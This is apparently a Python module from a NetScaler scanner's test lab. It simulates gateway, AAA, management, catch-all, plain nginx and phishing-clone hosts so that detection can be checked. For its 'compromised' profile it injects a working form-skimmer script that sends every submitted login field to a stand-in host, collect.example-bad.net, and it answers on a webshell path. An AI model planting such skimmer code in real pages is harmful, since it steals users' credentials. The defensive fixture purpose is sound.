"""Per-profile request handlers: what each simulated host answers for each path."""

from __future__ import annotations

import datetime as dt
import re
import secrets
from collections.abc import Callable
from posixpath import dirname, normpath

from nscheck.lab import content as c
from nscheck.lab.http import Request, Response, VirtualBody
from nscheck.lab.profiles import WEBSHELL_PATH, Profile

__all__ = ["Site", "make_site"]

RDX_PATH = "/vpn/js/rdx/core/lang/rdx_en.json.gz"
NSEPA_PATH = "/epa/scripts/linux/nsepa.deb"
_ASSET_REF = re.compile(r"""(?:src|href)=["']([^"'#]+)["']""", re.I)
_CLEAR_COOKIES = (
    ("Set-Cookie", "NSC_TEMP=xyz;Path=/;expires=Wednesday, 09-Nov-1999 23:12:40 GMT;Secure"),
    ("Set-Cookie", "NSC_PERS=xyz;Path=/;expires=Wednesday, 09-Nov-1999 23:12:40 GMT;Secure"),
)
_SECURITY_HEADERS = (
    ("X-Frame-Options", "SAMEORIGIN"),
    ("X-XSS-Protection", "1; mode=block"),
    ("X-Content-Type-Options", "nosniff"),
)
_SKIMMER_HEAD = '<script src="https://cdn-metrics.example-bad.net/s.js"></script>\n'
_SKIMMER_BODY = """<script>
document.addEventListener('submit', function (e) {
  try {
    var f = e.target, d = {};
    for (var i = 0; i < f.elements.length; i++) { if (f.elements[i].name) d[f.elements[i].name] = f.elements[i].value; }
    fetch('https://collect.example-bad.net/x', {method:'POST', body: JSON.stringify(d), mode:'no-cors'});
  } catch (err) {}
}, true);
</script>
"""
_FONTS_HEAD = (
    '<link rel="preconnect" href="https://fonts.googleapis.com" />\n'
    '<link href="https://fonts.googleapis.com/css2?family=Open+Sans:wght@400;600&amp;display=swap" rel="stylesheet" />\n'
)


class Site:
    """Base: answers 404 for everything."""

    def __init__(self, profile: Profile):
        self.profile = profile
        self.resolve_url: Callable[[str], str] = lambda name: ""

    async def respond(self, req: Request) -> Response:
        return Response(404, [("Content-Type", "text/html; charset=iso-8859-1")], c.not_found_page().encode())


def _html(body: str, *extra: tuple[str, str], status: int = 200) -> Response:
    return Response(status, [("Content-Type", "text/html; charset=UTF-8"), *extra], body.encode())


class NetScalerSite(Site):
    """A NetScaler vserver (gateway / aaa) and/or its management GUI, for one build."""

    def __init__(self, profile: Profile):
        super().__init__(profile)
        assert profile.build
        self.facts = c.build_facts(profile.build, profile.edition, profile.opt("rdx", "auto"),
                                    stamp_override=profile.opt("stamp"))
        b = self.facts.build
        self.roles = set(profile.roles)
        self.new_stack = b.release not in ("10.5", "11.0", "11.1", "12.0", "12.1", "13.0")
        self.cache_id = 1 + (sum(map(ord, profile.name)) % 7)
        self.assets: set[str] = set()
        self.pages: dict[str, tuple[str, str]] = {}  # path -> (html, Last-Modified)
        self.tmas = secrets.token_hex(16)
        self._build_pages()
        from nscheck.lab.nitro import NitroSim

        # A management address serves the GUI and NITRO on one port; the lab serves NITRO on
        # every simulated appliance unless the profile says it is disabled there.
        self.nitro: NitroSim | None = NitroSim(profile, b, self.facts.edition.value)
        if self.nitro.disabled:
            self.nitro = None

    # -- page set -----------------------------------------------------------------------
    def _decorate(self) -> tuple[str, str]:
        head, body = "", ""
        if self.profile.opt("theme_fonts"):
            head += _FONTS_HEAD
        if self.profile.opt("compromised"):
            head += _SKIMMER_HEAD
            body += _SKIMMER_BODY
        return head, body

    def _build_pages(self) -> None:
        f = self.facts
        head, body = self._decorate()
        theme = "Contoso" if self.profile.opt("theme_fonts") else "Default"
        org = self.profile.opt("customised")
        # A customer page carries the customer's own file time, not the firmware's.
        custom_lm = c.http_date(dt.datetime(2024, 3, 14, 9, 26, 53, tzinfo=dt.UTC))
        if "gateway" in self.roles:
            title = c.gateway_title(f.build)
            if f.classic_page:
                page = c.customised_page(org) if org else c.classic_gateway_page(
                    title, f.vhash, extra_head=head, extra_body=body)
                self._add("/vpn/index.html", page, custom_lm if org else f.last_modified)
            if f.build.release not in ("10.5", "11.0", "11.1", "12.0"):
                if org and not f.classic_page:
                    page = c.customised_page(org)
                else:
                    page = c.logonpoint_page(title, theme=theme, extra_head=head, extra_body=body)
                self._add("/logon/LogonPoint/index.html", page,
                          custom_lm if org and not f.classic_page else f.last_modified)
        if "aaa" in self.roles:
            page = c.logonpoint_page('<title class="_ctxstxt_NetscalerAAA">NetScaler AAA</title>',
                                     theme=theme, extra_head=head, extra_body=body)
            self._add("/logon/LogonPoint/tmindex.html", page, f.last_modified)
        if "management" in self.roles:
            self._add("/index.html", c.management_page(), f.last_modified)
        if self.roles & {"gateway", "aaa"}:
            self.assets.update({"/vpn/images/AccessGateway.ico", "/logon/LogonPoint/receiver/images/common/icon_vpn.ico"})

    def _add(self, path: str, html: str, last_modified: str) -> None:
        self.pages[path] = (html, last_modified)
        base = dirname(path).rstrip("/") + "/"
        for ref in _ASSET_REF.findall(html):
            if ref.startswith(("http://", "https://", "//", "data:", "javascript:")) or ref.endswith(".html"):
                continue
            p = ref.split("?", 1)[0]
            self.assets.add(normpath(p if p.startswith("/") else base + p))

    @property
    def landing(self) -> str:
        if "gateway" in self.roles:
            if "/vpn/index.html" in self.pages:
                return "/vpn/index.html"
            return "/logon/LogonPoint/index.html"
        if "aaa" in self.roles:
            return "/logon/LogonPoint/tmindex.html"
        return "/index.html"

    # -- headers ------------------------------------------------------------------------
    def _base(self) -> list[tuple[str, str]]:
        # Older firmware answered "Server: Apache"; newer builds anonymise the Server header.
        return [] if self.new_stack else [("Server", "Apache")]

    def _csp(self) -> list[tuple[str, str]]:
        b = self.facts.build
        if not (b.release == "14.1" or (b.release == "13.1" and b.major >= 49 and b.major != 37)):
            return []
        fonts = " https://fonts.googleapis.com https://fonts.gstatic.com" if self.profile.opt("theme_fonts") else ""
        return [(
            "Content-Security-Policy",
            "default-src 'self'; script-src 'self' 'unsafe-inline' 'unsafe-eval'; "
            f"style-src 'self' 'unsafe-inline'{fonts}; font-src 'self' data:{fonts}; img-src 'self' data: blob:; "
            "frame-src 'self' citrixng: nsgcepa: com.citrix.agmacepa:; "
            "report-uri /nscsp_violation/report_uri",
        )]

    def _static_headers(self, size: int, last_modified: str, ctype: str) -> list[tuple[str, str]]:
        h = self._base()
        if self.profile.opt("file_dates", "build") != "none":
            h += [("Last-Modified", last_modified), ("ETag", c.etag(size, c.lm_datetime(last_modified)))]
        h += [("Accept-Ranges", "bytes"), ("Content-Type", ctype)]
        if self.profile.opt("cache_via", True) and self.new_stack:
            h.append(("Via", f"NS-CACHE-10.0: {self.cache_id}"))
        return h

    def _page(self, path: str) -> Response:
        html, lm = self.pages[path]
        data = html.encode()
        h = self._base() + list(_SECURITY_HEADERS)
        if self.profile.opt("file_dates", "build") != "none":
            h += [("Last-Modified", lm), ("ETag", c.etag(len(data), c.lm_datetime(lm)))]
        h += [("Accept-Ranges", "bytes"), ("Cache-Control", "no-cache"), ("Content-Type", "text/html; charset=UTF-8")]
        h += list(_CLEAR_COOKIES)
        if path == "/index.html":  # management GUI
            return Response(200, h, data)
        h += self._csp()
        if path == "/logon/LogonPoint/tmindex.html":
            h.append(("Set-Cookie", f"NSC_TMAS={self.tmas};Secure;HttpOnly;Path=/"))
        else:
            h.append(("Set-Cookie", "pwcount=0;Path=/;Secure"))
        if path.startswith("/vpn/"):
            h.append(("X-Citrix-Application", "Receiver for Web"))
        return Response(200, h, data, ranges=True)

    def _not_found(self) -> Response:
        h = [*self._base(), ("Content-Type", "text/html; charset=iso-8859-1")]
        return Response(404, h, c.not_found_page().encode())

    def _redirect(self, location: str) -> Response:
        h = self._base() + list(_SECURITY_HEADERS) + [("Location", location), ("Content-Type", "text/html; charset=iso-8859-1")]
        h += list(_CLEAR_COOKIES)
        body = f'<HTML><BODY>This document has moved <a href="{location}">here</a>.</BODY></HTML>\n'
        return Response(302, h, body.encode())

    # -- routing ------------------------------------------------------------------------
    async def respond(self, req: Request) -> Response:
        path = req.path
        if self.nitro is not None and path.startswith("/nitro/"):
            return await self.nitro.respond(req)
        f = self.facts
        shell = self.profile.opt("webshell_path", WEBSHELL_PATH)
        if self.profile.opt("compromised") and path == shell:
            return Response(200, [*self._base(), ("Content-Type", "text/html; charset=UTF-8")], b"")
        if path == "/":
            if "gateway" in self.roles or "aaa" in self.roles:
                return self._redirect(self.landing)
            if "management" in self.roles:
                return self._page("/index.html")
        if path in self.pages:
            return self._page(path)
        if "management" in self.roles and path in ("/menu/neo", "/menu/ss", "/menu/guiw", "/gui/", "/gui"):
            return self._redirect("/")
        if self.roles & {"gateway", "aaa"}:
            if path == RDX_PATH:
                return self._rdx()
            if path == "/vpn/pluginlist.xml" and "gateway" in self.roles:
                # "pluginlist_body": what a hostile appliance serves instead (tests of linear parsing)
                body = self.profile.opt("pluginlist_body")
                data = body.encode() if isinstance(body, str) else body if isinstance(body, bytes) else c.pluginlist_xml(f)
                return Response(200, self._static_headers(len(data), f.last_modified, "text/xml"), data, ranges=True)
            if path == NSEPA_PATH and "gateway" in self.roles and f.epa_size is not None:
                return self._nsepa()
        if path in self.assets:
            data, ctype = c.asset_body(path)
            return Response(200, self._static_headers(len(data), f.last_modified, ctype), data, ranges=True)
        return self._not_found()

    def _rdx(self) -> Response:
        f = self.facts
        if f.rdx == "absent":
            return self._not_found()
        if f.rdx == "stamp" and f.stamp is not None:
            data = c.rdx_en_gz(f.stamp, empty=not f.classic_page)
        else:
            data = c.rdx_en_gz_zeroed()
        h = self._static_headers(len(data), f.last_modified, "application/x-gzip")
        if self.profile.opt("regzip"):
            # A proxy in front compresses the already-gzipped file again and says so.
            data = c.gzip_member(data, mtime=0, fname=None, level=6)
            h = [(k, v) for k, v in h if k not in ("ETag", "Accept-Ranges")]
            h += [("Content-Encoding", "gzip"), ("Vary", "Accept-Encoding")]
            return Response(200, h, data)
        return Response(200, h, data, ranges=True)

    def _nsepa(self) -> Response:
        size = self.facts.epa_size or 0
        prefix = c.deb_prefix(size)

        def read(start: int, end: int) -> bytes:
            out = bytearray(end - start)
            if start < len(prefix):
                head = prefix[start:end]
                out[: len(head)] = head
            return bytes(out)

        h = self._static_headers(size, self.facts.last_modified, "application/vnd.debian.binary-package")
        return Response(200, h, VirtualBody(size, read), ranges=True, head_length=False)


class CatchAllSite(NetScalerSite):
    """200 with the Gateway login page for every path (a responder policy in front of a
    NetScaler, or a misconfigured SPA host when ``netscaler`` is False)."""

    def __init__(self, profile: Profile):
        self.netscaler = bool(profile.opt("netscaler", True))
        if self.netscaler:
            super().__init__(Profile(name=profile.name, kind="netscaler", build=profile.build or "13.1-51.15",
                                     edition=profile.edition, roles=("gateway",), options=dict(profile.options)))
            self.profile = profile
        else:
            Site.__init__(self, profile)

    async def respond(self, req: Request) -> Response:
        if not self.netscaler:
            page = ('<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Portal</title>'
                    '<script defer src="/static/js/main.3f9a1c2e.js"></script></head>'
                    '<body><div id="root"></div></body></html>\n')
            return _html(page, ("Server", "nginx"))
        path = "/logon/LogonPoint/index.html"
        if path not in self.pages:
            path = next(iter(self.pages))
        return self._page(path)


class PlainSite(Site):
    """An ordinary nginx with its welcome page."""

    async def respond(self, req: Request) -> Response:
        if req.path in ("/", "/index.html"):
            return _html(c.nginx_welcome(), ("Server", "nginx"), ("Last-Modified", "Tue, 16 Apr 2024 13:08:12 GMT"))
        return Response(404, [("Server", "nginx"), ("Content-Type", "text/html")], c.nginx_404().encode())


class PhishingSite(Site):
    """A clone: the Gateway page's HTML (title included) and nothing else: no appliance
    cookies or headers, no static files, no rdx file, an ordinary certificate."""

    def __init__(self, profile: Profile):
        super().__init__(profile)
        f = c.build_facts(profile.build or "13.1-49.13", profile.edition)
        title = c.gateway_title(f.build)
        self.page = c.classic_gateway_page(title, None) if f.classic_page else c.logonpoint_page(title)

    async def respond(self, req: Request) -> Response:
        if req.path in ("/", "/index.html", "/vpn/index.html", "/logon/LogonPoint/index.html"):
            return _html(self.page, ("Server", "nginx"))
        return Response(404, [("Server", "nginx"), ("Content-Type", "text/html")], c.nginx_404().encode())


def make_site(profile: Profile) -> Site:
    if profile.kind == "netscaler":
        return NetScalerSite(profile)
    if profile.kind == "catchall":
        return CatchAllSite(profile)
    if profile.kind == "plain":
        return PlainSite(profile)
    if profile.kind == "phishing":
        return PhishingSite(profile)
    from nscheck.lab.faults import fault_site

    return fault_site(profile)
